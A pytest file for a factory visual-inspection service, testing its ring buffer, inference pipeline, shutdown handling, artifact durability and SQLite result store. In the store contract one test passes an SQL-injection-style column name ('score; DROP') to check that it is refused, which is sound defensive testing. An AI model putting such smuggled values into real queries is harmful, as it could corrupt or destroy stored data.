"""Pure parts of the service: ring buffer, pipeline bookkeeping, result store, security helpers.

The pipeline tests use a clearly named test double (``BlockingDetectorDouble``) so that
overflow can be provoked deterministically; every HTTP test uses the real model.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from diffqc.errors import ConfigError
from diffqc.service.buffer import (
    BufferClosed,
    BufferFull,
    InspectionPipeline,
    Job,
    OverflowPolicy,
    RingBuffer,
)
from diffqc.service.security import (
    ImageTooLarge,
    UploadTooLarge,
    bearer_token,
    check_content_length,
    check_image_header,
    parse_tokens,
    read_limited,
    safe_child,
    token_matches,
    tokens_from_env,
)
from diffqc.service.store import (
    NOT_INSPECTED,
    ArtifactStore,
    ResultRecord,
    ResultStore,
    redact_url,
    sqlite_path,
)


# ----------------------------------------------------------------------------- ring buffer
def test_ring_buffer_reject_policy_is_all_or_nothing() -> None:
    buf: RingBuffer[int] = RingBuffer(3, "reject")
    buf.put_many([1, 2])
    with pytest.raises(BufferFull):
        buf.put_many([3, 4])
    assert len(buf) == 2 and buf.refused_total == 2
    assert buf.put(3) is None
    with pytest.raises(BufferFull):
        buf.put(4)
    assert buf.get_batch(10) == [1, 2, 3]
    assert buf.accepted_total == 3 and buf.high_water == 3


def test_ring_buffer_drop_oldest_returns_the_evicted() -> None:
    buf: RingBuffer[int] = RingBuffer(2, OverflowPolicy.DROP_OLDEST)
    assert buf.put(1) is None and buf.put(2) is None
    assert buf.put(3) == 1
    assert buf.put_many([4, 5]) == [2, 3]
    assert buf.put_many([6, 7, 8]) == [4, 5]  # more than it holds: taken whole, the older ones out
    assert buf.get_batch(5) == [6, 7, 8] and buf.dropped_total == 5


def test_ring_buffer_is_bounded_by_bytes_as_well_as_slots() -> None:
    # items weigh their value in bytes; 64 slots but 1000 bytes
    buf: RingBuffer[int] = RingBuffer(64, "reject", max_bytes=1000, size=lambda x: x)
    buf.put_many([400, 400])
    with pytest.raises(BufferFull, match="800/1000 bytes"):
        buf.put(300)
    assert buf.bytes == 800 and len(buf) == 2
    assert buf.get_batch(1) == [400] and buf.bytes == 400
    buf.put(300)
    assert buf.bytes == 700 and buf.high_water_bytes == 800
    assert buf.get_batch(10) == [400, 300] and buf.bytes == 0
    assert buf.put(5000) is None  # heavier than the bound: only into an empty buffer
    with pytest.raises(BufferFull):
        buf.put(1)
    buf.get_batch(10)
    drop: RingBuffer[int] = RingBuffer(64, "drop_oldest", max_bytes=1000, size=lambda x: x)
    drop.put_many([300, 300, 300])
    assert drop.put_many([500]) == [300, 300]  # evicts the oldest until the new one fits
    assert drop.bytes == 800 and drop.get_batch(10) == [300, 500]


@pytest.mark.parametrize("policy", ["reject", "drop_oldest"])
def test_a_batch_heavier_than_the_buffer_never_evicts_its_own_parts(policy: str) -> None:
    """A batch into an idle service whose images together outweighed ``--buffer-mb`` (four
    4000x3000 crops of one part: 576 MB decoded, against 512 MiB) was taken, then its own
    earlier images were pushed out by its later ones and stored ``NOT_INSPECTED`` ("dropped:
    buffer full (drop_oldest policy)"), even under ``--overflow reject``, and answered 200. A
    batch is now taken whole or refused whole: into an empty buffer it is taken whole as a lone
    heavy part is; under ``drop_oldest`` only parts waiting before it make room for it."""
    buf: RingBuffer[int] = RingBuffer(64, policy, max_bytes=1000, size=lambda x: x)
    assert buf.put_many([400, 400, 400]) == []  # 1200 bytes: over the bound, into an empty buffer
    assert len(buf) == 3 and buf.bytes == 1200 and buf.dropped_total == 0
    if policy == "reject":
        with pytest.raises(BufferFull):  # something waits: refused whole, nothing evicted
            buf.put_many([10])
        assert buf.get_batch(10) == [400, 400, 400]
    else:
        assert buf.put_many([300, 300, 600]) == [400, 400, 400]  # the older parts, never its own
        assert buf.get_batch(10) == [300, 300, 600] and buf.dropped_total == 3


def test_a_flood_of_large_decoded_images_is_refused_by_bytes(tmp_path: Path) -> None:
    """4096x4096 uploads decode to 201 MB each (float32): with the default 512 MiB bound at
    most two wait, the third is refused (HTTP 503 overloaded), whatever the slot count."""
    with ResultStore(str(tmp_path / "r.db")) as store:
        pipeline = InspectionPipeline(BlockingDetectorDouble(), store, None, capacity=64)  # no worker
        big = np.zeros((4096, 4096, 3), np.float32)
        pipeline.submit_many([Job(image=big), Job(image=big)])
        with pytest.raises(BufferFull):
            pipeline.submit(Job(image=big))
        assert len(pipeline.buffer) == 2 and pipeline.buffer.bytes == 2 * big.nbytes <= 512 * 2**20


def test_ring_buffer_batches_what_is_waiting_and_never_waits_for_company() -> None:
    buf: RingBuffer[int] = RingBuffer(10)
    buf.put(1)
    t0 = time.monotonic()
    assert buf.get_batch(4, timeout=60) == [1]  # a lone item comes out at once
    assert time.monotonic() - t0 < 30  # not after the timeout (a margin for a loaded machine)
    buf.put_many(list(range(6)))
    assert buf.get_batch(4) == [0, 1, 2, 3] and buf.get_batch(4) == [4, 5]
    assert buf.get_batch(4, timeout=0.01) == []


def test_ring_buffer_wakes_a_waiting_consumer_and_closes() -> None:
    buf: RingBuffer[int] = RingBuffer(4)
    got: list[list[int]] = []
    t = threading.Thread(target=lambda: got.append(buf.get_batch(4, timeout=5)))
    t.start()
    time.sleep(0.05)
    buf.put(7)
    t.join(2)
    assert got == [[7]]
    buf.close()
    assert buf.get_batch(4, timeout=5) == []
    with pytest.raises(BufferClosed):
        buf.put(1)
    with pytest.raises(ValueError):
        RingBuffer(0)


# ----------------------------------------------------------------------------- pipeline
@dataclass
class _Result:
    score: float
    p_value: float
    decision: str
    feature_type: str | None
    predicted_type: str | None
    type_scores: dict[str, float] = field(default_factory=dict)
    anomaly_map: np.ndarray | None = None


class BlockingDetectorDouble:
    """TEST DOUBLE (buffer/store unit tests only): scores an image by its mean and blocks
    while ``gate`` is clear, so that a test decides when the worker may proceed."""

    version = "double-1"

    def __init__(self) -> None:
        self.classes_ = ["a", "b"]
        self.gate = threading.Event()
        self.gate.set()
        self.batches: list[int] = []
        self.entered = threading.Event()

    def inspect(self, images: Any, feature_types: Any = None, *, all_types: bool = True,
                check_images: bool = True) -> list[_Result]:
        self.entered.set()
        self.gate.wait(10)
        self.batches.append(len(images))
        out = []
        for img, t in zip(images, feature_types, strict=True):
            if t == "boom":
                raise RuntimeError("detector failure")
            s = float(img.mean())
            out.append(
                _Result(
                    s,
                    1.0 - s,
                    "PASS" if s < 0.5 else "REJECT",
                    t or "a",
                    t or "a",
                    {"a": s},
                    np.full(img.shape[:2], s, np.float32),
                )
            )
        return out


def _job(value: float, part: str, ftype: str | None = "a") -> Job:
    return Job(image=np.full((8, 8, 3), value, np.float32), feature_type=ftype, part_id=part)


def _pipeline(
    tmp_path: Path, det: BlockingDetectorDouble, **kw: Any
) -> tuple[InspectionPipeline, ResultStore]:
    store = ResultStore(str(tmp_path / "r.db"))
    pipe = InspectionPipeline(det, store, ArtifactStore(tmp_path / "art"), model_version="double-1", **kw)
    pipe.start()
    return pipe, store


def test_pipeline_stores_before_completing_and_drops_are_recorded(tmp_path: Path) -> None:
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, capacity=2, policy="drop_oldest", max_batch=2, heatmaps="all")
    try:
        first = pipe.submit(_job(0.1, "p0"))
        assert det.entered.wait(5)  # the worker holds p0; the buffer is empty again
        futures = [pipe.submit(_job(0.2, f"p{i}")) for i in range(1, 6)]  # p1..p3 are evicted
        assert pipe.buffer.dropped_total == 3 and not first.done()
        det.gate.set()
        recs = [f.result(10) for f in [first, *futures]]
    finally:
        pipe.stop()
    by_part = {r.part_id: r for r in recs}
    assert [by_part[f"p{i}"].decision for i in (1, 2, 3)] == [NOT_INSPECTED] * 3
    assert "dropped" in (by_part["p1"].reason or "")
    assert by_part["p0"].decision == "PASS" and by_part["p5"].decision == "PASS"
    stored = {r.part_id: r for r in store.query(limit=None)}
    assert len(stored) == 6 and all(stored[p].id == by_part[p].id for p in stored)
    assert all(r.model_version == "double-1" for r in stored.values())
    assert stored["p0"].heatmap and stored["p1"].heatmap is None
    store.close()


def test_a_parts_files_are_on_disk_before_its_record_is_committed(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The record is committed with fsync (SQLite's ``synchronous=FULL``) before the part is
    acknowledged; its heat map and kept image were only renamed into place. On a power cut (an
    edge box's usual end) the row survived and its files could come back empty or missing (ext4
    writes a new file's data later than its name): the review's evidence lost, an empty image in
    an export. Each file, and its folder's entry, is flushed to the disk before the commit."""
    events: list[tuple[str, Any]] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        st = os.fstat(fd)
        events.append(("fsync", (st.st_dev, st.st_ino)))
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    det = BlockingDetectorDouble()
    pipe, store = _pipeline(tmp_path, det, heatmaps="all", keep_images="all")
    real_insert = store.insert_many

    def insert_many(records: Any) -> Any:
        events.append(("commit", None))
        return real_insert(records)

    store.insert_many = insert_many  # type: ignore[method-assign]
    try:
        rec = pipe.submit(_job(0.8, "p0")).result(10)
    finally:
        pipe.stop()
    assert rec.heatmap and rec.image
    synced = {key for kind, key in events[: events.index(("commit", None))] if kind == "fsync"}
    for path in (tmp_path / "art" / "heatmaps" / rec.heatmap, tmp_path / "art" / "images" / rec.image,
                 tmp_path / "art" / "heatmaps", tmp_path / "art" / "images"):
        st = path.stat()
        assert (st.st_dev, st.st_ino) in synced, path
    store.close()


def test_pipeline_draws_heat_maps_of_flagged_parts_at_screen_size(tmp_path: Path) -> None:
    """Heat maps are drawn on the inference worker, so their time is every part's: by default
    only flagged parts get one (the dashboard shows no other), with the image fitted within
    768 px (a 1280 x 1024 camera's own size cost ~0.25 s of the worker per part;
    benchmarks/heatmap_cost.py). ``heatmap_size=0`` keeps the image's own size."""
    from PIL import Image

    def picture_width(store: ResultStore, art: Path, part: str) -> int | None:
        (rec,) = [r for r in store.query(limit=None) if r.part_id == part]
        if rec.heatmap is None:
            return None
        with Image.open(art / "heatmaps" / rec.heatmap) as img:
            return img.size[0]

    def frame(value: float) -> Job:
        return Job(image=np.full((1024, 1280, 3), value, np.float32), feature_type="a",
                   part_id=f"{value}")

    widths = {}
    for name, options in (("default", {}), ("own size", {"heatmap_size": 0, "heatmaps": "all"})):
        store = ResultStore(str(tmp_path / f"{name}.db"))
        pipe = InspectionPipeline(BlockingDetectorDouble(), store, ArtifactStore(tmp_path / name), **options)
        pipe.start()
        try:
            for f in [pipe.submit(frame(0.2)), pipe.submit(frame(0.8))]:  # PASS, REJECT
                f.result(30)
        finally:
            pipe.stop()
        widths[name] = tuple(picture_width(store, tmp_path / name, part) for part in ("0.2", "0.8"))
        store.close()
    pass_default, reject_default = widths["default"]
    assert pass_default is None and reject_default is not None
    assert 2 * 768 < reject_default < 2 * 768 + 200  # two halves of 768 px, the colour bar
    assert widths["own size"][0] is not None and widths["own size"][1] > 2 * 1280


def test_pipeline_sheds_heat_maps_while_parts_back_up(tmp_path: Path) -> None:
    """A lighting failure flags every part: drawing each one's heat map (~0.25 s at 1.3 MP on
    the one worker) would back the buffer up until parts are refused. While more than half of
    the buffer waits, the worker stores decisions without heat maps (the record says why, and
    /metrics counts them); once it has caught up, heat maps come back."""
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, capacity=8, max_batch=2)
    try:
        first = pipe.submit(_job(0.9, "r0"))  # REJECT: a heat map is wanted for every part
        assert det.entered.wait(5)
        backlog = [pipe.submit(_job(0.9, f"r{i}")) for i in range(1, 8)]  # 7 of 8 waiting
        det.gate.set()
        recs = [f.result(10) for f in [first, *backlog]]
        last = pipe.submit(_job(0.9, "r-after")).result(10)  # the buffer is empty again
    finally:
        pipe.stop()
    assert all(r.decision == "REJECT" for r in recs)
    shed = [r for r in recs if r.heatmap is None]
    assert shed and all("heat map skipped" in (r.reason or "") for r in shed)
    assert recs[-1].heatmap is not None  # the last batch found the buffer empty
    assert last.heatmap is not None and last.reason is None
    assert pipe.heatmaps_shed_total == len(shed)
    store.close()


def test_pipeline_reject_policy_refuses_and_micro_batches(tmp_path: Path) -> None:
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, capacity=3, policy="reject", max_batch=8)
    try:
        f0 = pipe.submit(_job(0.1, "x0"))
        assert det.entered.wait(5)
        fs = pipe.submit_many([_job(0.1, f"x{i}") for i in range(1, 4)])
        with pytest.raises(BufferFull):
            pipe.submit(_job(0.1, "x4"))
        det.gate.set()
        for f in [f0, *fs]:
            f.result(10)
    finally:
        pipe.stop()
    assert det.batches == [1, 3]  # the waiting parts went through as one micro-batch
    assert store.count() == 4 and pipe.buffer.refused_total == 1
    store.close()


def test_pipeline_isolates_a_failing_part(tmp_path: Path) -> None:
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, max_batch=8)
    try:
        f0 = pipe.submit(_job(0.1, "ok0"))
        assert det.entered.wait(5)
        fs = pipe.submit_many([_job(0.1, "ok1"), _job(0.1, "bad", "boom"), _job(0.9, "ok2")])
        det.gate.set()
        recs = [f.result(10) for f in [f0, *fs]]
    finally:
        pipe.stop()
    assert [r.decision for r in recs] == ["PASS", "PASS", NOT_INSPECTED, "REJECT"]
    assert "detector failure" in (recs[2].reason or "") and pipe.errors_total == 1
    store.close()


def test_pipeline_drains_accepted_parts_on_stop(tmp_path: Path) -> None:
    det = BlockingDetectorDouble()
    pipe, store = _pipeline(tmp_path, det, max_batch=2)
    fs = pipe.submit_many([_job(0.1, f"s{i}") for i in range(7)])
    pipe.stop()
    assert all(f.done() for f in fs) and store.count() == 7
    with pytest.raises(BufferClosed):
        pipe.submit(_job(0.1, "late"))
    store.close()


def test_async_waiter_cancelled_does_not_lose_the_part(tmp_path: Path) -> None:
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det)

    async def go() -> None:
        fut = pipe.submit(_job(0.1, "gone"))
        waiter = asyncio.ensure_future(asyncio.wrap_future(fut))
        await asyncio.sleep(0.05)
        waiter.cancel()
        det.gate.set()
        await asyncio.sleep(0)

    asyncio.run(go())
    pipe.stop()
    assert [r.part_id for r in store.query()] == ["gone"]
    store.close()


def test_a_stop_stores_every_part_it_could_not_inspect_in_time(tmp_path: Path,
                                                               caplog: pytest.LogCaptureFixture) -> None:
    """A stop (SIGTERM) while a slow model had parts waiting waited 30 s for the worker and
    returned with it still running: the store was then closed behind it, so parts it went on to
    inspect failed ("the store is closed") and those still waiting were never stored at all: no
    decision, no NOT_INSPECTED, no line in the log (64 waiting at 1 s a part: 24 stored, 16
    failed, 24 never settled). Once the stop's time is up, every part not stored is stored
    NOT_INSPECTED, and the log says how many; the worker, still in its inference call, stores
    nothing after that."""
    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, max_batch=2)
    worker = pipe._thread
    try:
        first = pipe.submit(_job(0.1, "s0"))
        assert det.entered.wait(5)  # the worker holds s0 in an inference call that does not end
        waiting = pipe.submit_many([_job(0.1, f"s{i}") for i in range(1, 6)])
        caplog.set_level("WARNING", logger="diffqc")
        pipe.stop(timeout=0.2)
        assert det.batches == []  # returned while the worker is still in its inference call
        futures = [first, *waiting]
        assert all(f.done() for f in futures)
        recs = [f.result(0) for f in futures]
        assert [r.decision for r in recs] == [NOT_INSPECTED] * 6
        assert all(r.reason == "service stopped before it was inspected" for r in recs)
        assert "6 parts" in caplog.text and "NOT_INSPECTED" in caplog.text
        stored = sorted(r.part_id or "" for r in store.query(limit=None))
        assert stored == [f"s{i}" for i in range(6)]
        store.close()  # as the service does once the pipeline stopped
        det.gate.set()  # the inference call ends: the worker stores nothing more, fails nothing
        assert worker is not None
        worker.join(10)
        assert not worker.is_alive() and "inference batch failed" not in caplog.text
        assert ResultStore(str(tmp_path / "r.db")).count() == 6
    finally:
        det.gate.set()


def test_a_stop_does_not_wait_for_a_listener_of_a_stored_part(tmp_path: Path) -> None:
    """The worker told its listeners (the line's drift watch and outbox, which write to the
    store themselves) while holding the lock a stop that gives up takes: a listener waiting on a
    slow store held the stop past its deadline for as long. Listeners are told outside it: a stop
    whose time is up stores the parts still waiting while a listener of a stored part waits."""
    import threading

    det = BlockingDetectorDouble()
    pipe, _ = _pipeline(tmp_path, det, max_batch=1)
    heard, release, told = threading.Event(), threading.Event(), threading.Event()

    def slow_listener(rec: Any, seconds: float) -> None:
        if rec.part_id == "a":  # the worker's: told of "a" while a slow store's write waits
            heard.set()
            release.wait(10)
            told.set()

    pipe.listeners.append(slow_listener)
    try:
        first = pipe.submit(_job(0.1, "a"))
        assert heard.wait(5)  # the worker stored "a" and is telling the slow listener
        det.gate.clear()
        later = pipe.submit(_job(0.1, "b"))
        pipe.stop(timeout=0.1)
        assert not told.is_set() and later.done()  # stopped while the listener still waits
        assert later.result(0).decision == NOT_INSPECTED
    finally:
        release.set()
        det.gate.set()
    assert first.result(5).part_id == "a"


def test_a_dropped_part_lets_go_of_its_image_when_it_is_dropped(tmp_path: Path) -> None:
    """Under ``--overflow drop_oldest`` a part pushed out of the buffer kept its decoded image
    and its upload until the worker had finished the batch in hand, outside ``--buffer-mb``: a
    buffer of 8 MiB held 81 MiB more in 54 parts dropped during one slow batch. A dropped part
    lets go of both as it is dropped; its NOT_INSPECTED record still has all it needs."""
    import weakref

    det = BlockingDetectorDouble()
    det.gate.clear()
    pipe, store = _pipeline(tmp_path, det, capacity=1, policy="drop_oldest")
    try:
        first = pipe.submit(_job(0.1, "d0"))
        assert det.entered.wait(5)  # the worker holds d0: the buffer is empty
        job = Job(image=np.full((256, 256, 3), 0.2, np.float32), feature_type="a", part_id="d1",
                  encoded=b"\x89PNG" + bytes(1 << 20), encoded_ext="png", dedup_key="key-d1",
                  line="L1", station="S1", camera="C1")
        image = weakref.ref(job.image)
        dropped = pipe.submit(job)
        pushing = pipe.submit(_job(0.2, "d2"))  # evicts d1
        assert pipe.buffer.dropped_total == 1 and not dropped.done()
        assert image() is None and job.nbytes == 0  # let go at once, not when the batch ends
        det.gate.set()
        rec = dropped.result(10)
        assert first.result(10).decision == "PASS" and pushing.result(10).decision == "PASS"
    finally:
        det.gate.set()
        pipe.stop()
    assert rec.decision == NOT_INSPECTED and "dropped" in (rec.reason or "")
    assert (rec.part_id, rec.feature_type, rec.dedup_key) == ("d1", "a", "key-d1")
    assert (rec.line, rec.station, rec.camera) == ("L1", "S1", "C1")
    store.close()



# ----------------------------------------------------------------------------- store
def _rec(part: str, decision: str = "PASS", **kw: Any) -> ResultRecord:
    return ResultRecord(
        created_at=kw.pop("created_at", time.time()),
        source=kw.pop("source", "http"),
        decision=decision,
        part_id=part,
        feature_type=kw.pop("feature_type", "a"),
        score=kw.pop("score", 0.5),
        p_value=kw.pop("p_value", 0.3),
        **kw,
    )


def store_contract(store: ResultStore) -> None:
    """Behaviour every backend must show (also run against PostgreSQL)."""
    t0 = time.time()
    a, b = store.insert_many(
        [
            _rec("a1", created_at=t0 - 100),
            _rec("b1", "REVIEW", feature_type="b", type_scores={"a": 1.0, "b": 0.5}),
        ]
    )
    assert a.id is not None and b.id is not None and b.id > a.id
    got = store.get(b.id)
    assert got is not None and got.type_scores == {"a": 1.0, "b": 0.5} and got.decision == "REVIEW"
    assert store.get(10**9) is None
    # idempotency on (source, dedup_key)
    w1 = store.insert(_rec("f1", source="watch:x", dedup_key="f1.png|abc"))
    w2 = store.insert(_rec("f1-again", source="watch:x", dedup_key="f1.png|abc"))
    assert w2.duplicate and w2.id == w1.id and w2.part_id == "f1"
    other = store.insert(_rec("f1", source="watch:y", dedup_key="f1.png|abc"))
    assert not other.duplicate and other.id != w1.id
    assert store.inspected_keys("watch:x", ["f1.png|abc", "nope"]) == {"f1.png|abc": w1.created_at}
    assert store.find_key("watch:x", "f1.png|abc") is not None
    # filters
    assert [r.part_id for r in store.query(decision="REVIEW")] == ["b1"]
    assert [r.part_id for r in store.query(feature_type="b")] == ["b1"]
    assert [r.part_id for r in store.query(until=t0 - 50)] == ["a1"]
    assert {r.part_id for r in store.query(since=t0 - 50)} == {"b1", "f1"}
    assert [r.part_id for r in store.query(source="watch:y")] == ["f1"]
    # the latest record's time per (type, camera) since a time (/metrics' last decision)
    latest = {(t, c): at for t, c, at in store.latest_times(t0 - 50)}
    assert latest.keys() == {("a", None), ("b", None)}
    assert latest[("b", None)] == pytest.approx(b.created_at) and latest[("a", None)] >= t0 - 50
    assert [r.id for r in store.query(limit=2)] == sorted((r.id or 0 for r in store.query()), reverse=True)[
        :2
    ]
    assert [r.part_id for r in store.query(after_id=a.id, oldest_first=True, limit=1)] == ["b1"]
    # review
    assert [r.part_id for r in store.review_queue()] == ["b1"] and store.pending_reviews() == 1
    rv = store.set_review(b.id, "GOOD", "ann", "fine")
    assert rv is not None and rv.review == "GOOD" and rv.reviewer == "ann" and rv.reviewed_at
    assert store.review_queue() == [] and store.pending_reviews() == 0
    assert [r.part_id for r in store.query(review="GOOD")] == ["b1"]
    assert [r.part_id for r in store.query(reviewed=True)] == ["b1"]
    assert store.set_review(10**9, "BAD") is None
    with pytest.raises(ValueError):
        store.set_review(b.id, "MAYBE")
    counts = {(t, d): n for t, d, n in store.counts()}
    assert counts[("a", "PASS")] == 3 and counts[("b", "REVIEW")] == 1
    # a period's counts (what `results export` compares its parts with)
    assert {(t, d): n for t, d, n in store.counts(since=t0 - 50)} == {("a", "PASS"): 2, ("b", "REVIEW"): 1}
    assert store.count() == 4 and store.ping()
    # a changed verdict: the record holds the latest, the history every one, oldest first
    store.set_review(b.id, "BAD", "bob", "under the fixture's mark", defect="crack")
    assert [(h["review"], h["reviewer"], h["review_note"], h["review_defect"])
            for h in store.review_history(b.id)] == [
        ("GOOD", "ann", "fine", None), ("BAD", "bob", "under the fixture's mark", "crack")]
    assert (store.get(b.id) or b).review_defect == "crack"
    with pytest.raises(ValueError, match="BAD"):
        store.set_review(b.id, "GOOD", defect="crack")
    assert (store.get(b.id) or b).review == "BAD" and store.review_history(a.id) == []
    # the kinds given, the most given first: what the dashboard offers as a reviewer types
    assert store.defect_kinds() == [("crack", 1)]
    store.set_review(a.id, "BAD", defect="scratch")
    store.set_review(a.id, "BAD", defect="crack")
    assert store.defect_kinds() == [("crack", 2), ("scratch", 1)] and store.defect_kinds(1) == [("crack", 2)]
    # a score that could not be computed is stored as NULL by every backend
    nan = store.insert(_rec("nan", decision="REJECT", score=float("nan"), p_value=float("inf")))
    back = store.get(nan.id or 0)
    assert back is not None and back.score is None and back.p_value is None
    # a key stored NOT_INSPECTED is not done: the next attempt takes the key, the failure stays
    lost = store.insert(_rec("n1", NOT_INSPECTED, source="watch:x", dedup_key="n.png|d"))
    assert store.inspected_keys("watch:x", ["n.png|d"]) == {}
    retry = store.insert(_rec("n1", source="watch:x", dedup_key="n.png|d"))
    assert not retry.duplicate and retry.id != lost.id
    assert (store.get(lost.id or 0) or retry).decision == NOT_INSPECTED
    assert (store.find_key("watch:x", "n.png|d") or lost).id == retry.id
    assert store.insert(_rec("n1", source="watch:x", dedup_key="n.png|d")).duplicate
    # `results summary`'s counts: every part once, grouped as asked, and only by known columns
    grouped = store.summary_counts(["feature_type", "camera"])
    assert sum(row[-1] for row in grouped) == store.count() and all(len(row) == 5 for row in grouped)
    with pytest.raises(ValueError, match="cannot group by 'score; DROP'"):
        store.summary_counts(["score; DROP"])
    # the store's own key-value entries (the raised drift alarms): written, replaced, deleted
    store.set_meta('drift_alarm/["a", null]', '{"since": 1}')
    store.set_meta('drift_alarm/["a", "cam_1%"]', '{"since": 2}')
    store.set_meta('drift_alarm/["a", null]', '{"since": 3}')
    assert store.meta_items("drift_alarm/") == {'drift_alarm/["a", null]': '{"since": 3}',
                                                'drift_alarm/["a", "cam_1%"]': '{"since": 2}'}
    store.set_meta('drift_alarm/["a", null]', None)
    assert list(store.meta_items("drift_alarm/")) == ['drift_alarm/["a", "cam_1%"]']


MOUNTS = """\
/dev/sda1 / ext4 rw,relatime 0 0
nas:/export/qc /mnt/nas nfs4 rw,relatime,vers=4.2 0 0
//srv/line\\040share /mnt/line\\040share cifs rw 0 0
/dev/sdb1 /mnt/nas/local ext4 rw 0 0
tmpfs /mnt/nas tmpfs rw 0 0
"""


def test_a_sqlite_store_on_a_network_file_system_is_named(tmp_path: Path) -> None:
    """SQLite's locking is not reliable on a network file system and its WAL needs the shared
    memory of one host: a store put on the plant's NAS (so the QC office sees it) risks
    "database disk image is malformed". The file system holding a path is found from the mount
    table (the longest mount point above it; an escaped space; a mount stacked over another
    counts as the last), and a network one is named."""
    from diffqc.service.store import network_file_system

    assert network_file_system(Path("/mnt/line share/results.db"), MOUNTS) == "cifs"
    assert network_file_system(Path("/mnt/nas/local/results.db"), MOUNTS) is None  # ext4 below the NAS
    assert network_file_system(Path("/mnt/nas/results.db"), MOUNTS) is None  # tmpfs stacked over it
    assert network_file_system(Path("/mnt/nas/results.db"), MOUNTS.replace("tmpfs /mnt/nas tmpfs rw 0 0\n",
                                                                            "")) == "nfs4"
    assert network_file_system(Path("/data/results.db"), MOUNTS) is None
    assert network_file_system(tmp_path / "results.db") is None  # this machine's own mount table


def test_sqlite_store_contract_and_durability(tmp_path: Path) -> None:
    db = tmp_path / "sub" / "results.db"
    with ResultStore(str(db)) as store:
        store_contract(store)
        mode = store._writer.execute("PRAGMA journal_mode").fetchone()[0]
        sync = store._writer.execute("PRAGMA synchronous").fetchone()[0]
        assert mode == "wal" and sync == 2  # FULL: fsync on every commit
    with ResultStore(f"sqlite:///{db}") as again:  # reopens, schema already there
        assert again.count() == 7


def part_order_contract(store: ResultStore) -> None:
    """Each part's records together (`diffqc results parts`), across batches, parts interleaved
    (also run against PostgreSQL)."""
    from diffqc.service.store import records_by_part

    crops = store.insert_many([_rec(f"part-{i % 3}", line="L9") for i in range(7)])
    store.insert(_rec("x", line="L8"))
    store.insert(ResultRecord(created_at=time.time(), source="http", decision="PASS", line="L9"))
    grouped = list(records_by_part(store, batch=2, line="L9"))
    assert [(pid, [r.id for r in rows]) for pid, rows in grouped] == [
        (f"part-{k}", [c.id for c in crops[k::3]]) for k in range(3)]
    assert [pid for pid, _ in records_by_part(store, batch=2, line="L9", part_id="part-1")] == ["part-1"]
    assert [r.part_id for r in store.query(has_part=False, line="L9")] == [None]
    assert store.count(has_part=False, line="L9") == 1 and store.count(line="L9") == 8
    assert len(store.query(has_part=True, line="L9")) == 7
    # the newest rows with a part id, newest first, paged back (GET /v1/parts)
    newest = store.recent_part_rows(3, line="L9")
    assert newest == [(c.id, c.part_id) for c in crops[::-1][:3]]
    assert store.recent_part_rows(2, line="L9", before_id=newest[-1][0]) == [
        (c.id, c.part_id) for c in crops[::-1][3:5]]


def test_sqlite_store_is_safe_across_threads(tmp_path: Path) -> None:
    with ResultStore(str(tmp_path / "t.db")) as store:

        def writer(k: int) -> None:
            for i in range(25):
                store.insert(_rec(f"t{k}-{i}"))
                store.query(limit=5)

        threads = [threading.Thread(target=writer, args=(k,)) for k in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert store.count() == 100


def test_a_records_json_form_is_its_fields_in_order_and_its_own() -> None:
    """``to_json`` (every answer's record): the fields in order without the client's key and
    request hash, the times in ISO 8601 too; its type scores are a copy (changing the answer
    leaves the record as it was)."""
    from dataclasses import fields

    rec = _rec("P-1", type_scores={"a": 0.5}, dedup_key="k", body_hash="h", reviewed_at=1_700_000_100.0,
               created_at=1_700_000_000.0)
    out = rec.to_json()
    names = [f.name for f in fields(ResultRecord) if f.name not in ("duplicate", "dedup_key", "body_hash")]
    assert list(out) == [*names, "created", "reviewed"]
    assert (out["created"], out["reviewed"]) == ("2023-11-14T22:13:20.000Z", "2023-11-14T22:15:00.000Z")
    assert {k: out[k] for k in names} == {k: getattr(rec, k) for k in names}
    out["type_scores"]["b"] = 1.0
    assert rec.type_scores == {"a": 0.5}


def test_sqlite_records_by_part(tmp_path: Path) -> None:
    with ResultStore(str(tmp_path / "p.db")) as store:
        part_order_contract(store)


def test_stored_records_reads_every_match_in_batches_oldest_first(tmp_path: Path) -> None:
    from diffqc.service.store import stored_records

    with ResultStore(str(tmp_path / "r.db")) as store:
        store.insert_many([_rec(f"p{i}", "REJECT" if i % 3 == 0 else "PASS") for i in range(7)])
        assert [r.part_id for r in stored_records(store, batch=2)] == [f"p{i}" for i in range(7)]
        assert [r.part_id for r in stored_records(store, batch=3, decision="REJECT")] == [
            "p0", "p3", "p6"]  # a last batch exactly full, then an empty one
        assert list(stored_records(store, feature_type="none")) == []


def test_a_time_can_be_a_span_back_from_now(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """"The last shift" was a time to work out and type (`--since 2026-12-03T06:00Z`, in UTC);
    `8h`, `90m`, `2d`, `30s` are that long before now, in `results list`/`export` and the API's
    `since`/`until` alike (one parser). Anything else is still refused."""
    import json

    from diffqc.cli import main
    from diffqc.service.app import ServiceError, parse_time

    now = time.time()
    for text, seconds in [("8h", 8 * 3600), ("90m", 5400), ("1.5d", 129600), ("30s", 30)]:
        when = parse_time(text, "since")
        assert when is not None and abs(when - (now - seconds)) < 5
    for bad in ["8 hours", "1y", "-1h", "h"]:
        with pytest.raises(ServiceError, match="neither epoch seconds nor ISO 8601 nor a span"):
            parse_time(bad, "since")
    # what a script sends by mistake: JavaScript's Date.now() (milliseconds: an empty answer, the
    # year 58890 as seconds), and an offset's "+" unescaped in a URL (read as a space)
    with pytest.raises(ServiceError, match=r"since=1796414640000 lies past the year 9999 as epoch "
                                           r"seconds: milliseconds\? give seconds \(1796414640\)"):
        parse_time("1796414640000", "since")
    assert parse_time("253402300799", "until") == 253402300799  # 9999-12-31T23:59:59Z: "for ever"
